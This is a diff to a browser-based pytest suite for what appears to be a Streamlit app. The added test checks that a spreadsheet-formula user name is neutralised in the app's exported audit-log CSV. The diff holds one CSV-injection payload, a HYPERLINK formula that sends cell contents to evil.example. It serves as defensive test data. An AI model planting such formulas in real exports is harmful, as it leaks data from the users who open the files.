@@ -8,11 +8,14 @@ server; each role is chosen with the demo role switcher and its pages opened fro
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import subprocess
 import sys
 import time
 import urllib.request
+from pathlib import Path
 
 import pytest
 
@@ -29,6 +32,7 @@ from tests.hostile_data import EVIL_HOST, HOSTILE, plant_hostile_names
 
 pytestmark = pytest.mark.browser
 PASSWORD = "a long enough passphrase"
+FORMULA_USER = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
 SETTLE_MS = 1_500
 # Every element that can point somewhere, HTML or SVG (plotly draws labels as SVG, with <a> if asked).
 TARGETS_SCRIPT = """() => Array.from(document.querySelectorAll('a, img, image, area, link, iframe, source, video, audio'))
@@ -145,6 +149,10 @@ def test_no_link_or_image_from_data_on_any_page_for_any_role(hostile_server, chr
         )
         page.goto(url, timeout=PAGE_TIMEOUT_MS)
         page.get_by_role("textbox", name="Username").wait_for(timeout=PAGE_TIMEOUT_MS)
+        page.get_by_role("textbox", name="Username").fill(FORMULA_USER)  # a failed sign-in, logged
+        page.get_by_role("textbox", name="Password").fill("wrong password here")
+        page.get_by_role("button", name="Sign in").click()
+        page.get_by_text("The user name or password is wrong.").wait_for(timeout=PAGE_TIMEOUT_MS)
         page.get_by_role("textbox", name="Username").fill("mallory")
         page.get_by_role("textbox", name="Password").fill(PASSWORD)
         page.get_by_role("button", name="Sign in").click()
@@ -155,6 +163,22 @@ def test_no_link_or_image_from_data_on_any_page_for_any_role(hostile_server, chr
         for tag, target in page.evaluate(TARGETS_SCRIPT):
             if EVIL_HOST in target:
                 live.append(("signed in", "Overview", tag, target))
+
+        # Issue 14, finding 5: the table toolbar offers no CSV download of its own; our download of
+        # the audit log (audited) has the formula typed as a user name neutralised.
+        page.locator('[data-testid="stSidebarNav"] a', has_text="Audit log and users").first.click()
+        page.get_by_role("heading", name="Audit log and users", exact=True).first.wait_for(timeout=PAGE_TIMEOUT_MS)
+        _settle(page)
+        page.locator('[data-testid="stDataFrame"]').first.hover()
+        page.wait_for_timeout(500)
+        toolbar = page.locator('[data-testid="stElementToolbar"]').first
+        assert toolbar.count() and toolbar.locator("button").count() > 0, "the table toolbar is drawn"
+        assert page.locator('button[aria-label="Download as CSV"]').count() == 0
+        with page.expect_download(timeout=PAGE_TIMEOUT_MS) as download:
+            page.get_by_role("button", name="Download the log (CSV)").click()
+        exported = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
+        failed = [row for row in exported if row["action"] == "sign_in_failed"]
+        assert failed and failed[0]["user_name"] == "'" + FORMULA_USER.lower(), failed
         browser.close()
     assert not live, live
     assert pages_seen >= 20, pages_seen
